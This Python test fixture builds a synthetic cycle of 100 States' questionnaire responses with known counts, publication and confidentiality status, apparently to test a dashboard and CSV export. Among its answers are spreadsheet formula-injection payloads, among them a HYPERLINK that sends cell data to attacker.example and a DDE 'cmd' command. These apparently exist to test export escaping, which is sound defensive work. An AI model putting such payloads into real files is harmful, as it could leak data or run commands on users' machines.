"""A synthetic cycle of 100 States with a known distribution of answers, created through the
app's own operations (create, save, submit, accept, publish).

The 100 "decided" States answer crim_offence: 85 yes, 10 partly, 5 no. 60 of them are published
(index % 5 in 0, 1, 2), 40 accepted. Three published States marked crim_offence and their law
confidential; a few texts are formula-like. Five more States have only submitted (answer "no")
and three have drafts: neither counts unless asked for. The other 85 Member States have not started.
"""
import codecs
from dataclasses import dataclass, field

from sqlalchemy import select

from app.extensions import db
from app.responses import operations as ops
from app.responses.models import Response
from app.responses.workflow import Action
from app.states.models import State
from app.states.names import member_state_codes
from tests import factories

CONFIDENTIAL_INDEXES = (0, 5, 10)
#: The dashboard's count of States per status.
STATUS_COUNTS = {"not_started": 85, "draft": 3, "returned": 0, "submitted": 5, "accepted": 40, "published": 60}
#: Questions of the test questionnaire that always apply (ratification_status's own follow-ups
#: stay closed while it is unanswered, as it is here).
ALWAYS_APPLICABLE = {"ratification_status", "crim_offence", "prot_shelter", "prot_budget", "prot_description",
                     "data_victims", "data_assisted", "data_body"}
CRIMINALIZATION_FOLLOW_UPS = {"crim_law", "crim_laws", "crim_forms", "crim_in_force", "crim_max_penalty"}
#: Text answers a spreadsheet would run as formulas, given by published States (index: text).
FORMULA_TEXTS = {1: '=HYPERLINK("http://attacker.example/?"&A1,"Details")', 2: "@SUM(1+1)*cmd|' /C calc'!A0",
                 3: "+1+cmd", 6: "-2+3", 7: "\t=1+1", 8: "\r=1+1"}


@dataclass
class SyntheticCycle:
    cycle: object
    decided: list[str] = field(default_factory=list)
    published: list[str] = field(default_factory=list)
    submitted: list[str] = field(default_factory=list)
    drafts: list[str] = field(default_factory=list)
    confidential: list[str] = field(default_factory=list)
    #: The answers given, by State.
    answers: dict[str, dict] = field(default_factory=dict)


def export_text(response) -> str:
    """A CSV download as a spreadsheet reads it: UTF-8 after the byte order mark Excel needs."""
    assert response.status_code == 200 and response.data.startswith(codecs.BOM_UTF8), response.data[:20]
    return response.data.decode("utf-8-sig")


def completion(values: dict) -> tuple[int, int]:
    """(answered, applicable) for the dashboard, worked out by hand: crim_offence yes or partly
    opens its five follow-ups, prot_shelter yes its number of places; an answer to a question that
    does not apply does not count."""
    applicable = set(ALWAYS_APPLICABLE)
    if values.get("crim_offence") in ("yes", "partly"):
        applicable |= CRIMINALIZATION_FOLLOW_UPS
    if values.get("prot_shelter") == "yes":
        applicable.add("prot_shelter_places")
    return len(applicable & values.keys()), len(applicable)


def offence(index: int) -> str:
    return "yes" if index < 85 else "partly" if index < 95 else "no"


def _answers(index: int, code: str) -> tuple[dict, set]:
    values = {"crim_offence": offence(index), "prot_shelter": "yes" if index % 10 < 7 else "no",
              "data_victims": {"2024": {"women": 1, "men": 2}, **({"2023": {"women": 3}} if index < 50 else {})}}
    if values["crim_offence"] != "no":
        values["crim_law"] = FORMULA_TEXTS.get(index, f"Law of {code}")
        values["crim_forms"] = ["sexual", "forced_labour"] if index % 2 else ["sexual"]
    if values["prot_shelter"] == "yes":
        values["prot_shelter_places"] = 10 + index
    confidential = set()
    if index in CONFIDENTIAL_INDEXES:
        values["crim_law"] = f"CONFIDENTIAL-LAW-{code}"
        confidential = {"crim_offence", "crim_law"}
    return values, confidential


def _respond(data: SyntheticCycle, code: str, focal, values: dict, confidential: set = frozenset()) -> Response:
    data.answers[code] = values
    ops.create_response(db.session.get(State, code), data.cycle, focal, values, confidential)
    return db.session.scalar(select(Response).filter_by(state_code=code, cycle_id=data.cycle.id))


def build(cycle=None) -> SyntheticCycle:
    cycle = cycle or factories.cycle()
    focal = factories.user("focal_point", "FRA")
    reviewer = factories.user("secretariat")
    codes = list(member_state_codes())
    data = SyntheticCycle(cycle)
    for index, code in enumerate(codes[:100]):
        values, confidential = _answers(index, code)
        response = _respond(data, code, focal, values, confidential)
        for action, actor in ((Action.SUBMIT, focal), (Action.ACCEPT, reviewer)):
            ops.change_status(response, action, actor)
        data.decided.append(code)
        if index % 5 in (0, 1, 2):
            ops.change_status(response, Action.PUBLISH, reviewer)
            data.published.append(code)
        if confidential:
            data.confidential.append(code)
    for code in codes[100:105]:
        response = _respond(data, code, focal, {"crim_offence": "no", "crim_law": f"UNPUBLISHED-{code}"})
        ops.change_status(response, Action.SUBMIT, focal)
        data.submitted.append(code)
    for code in codes[105:108]:
        _respond(data, code, focal, {"crim_offence": "yes", "crim_law": f"UNPUBLISHED-{code}"})
        data.drafts.append(code)
    db.session.commit()
    return data
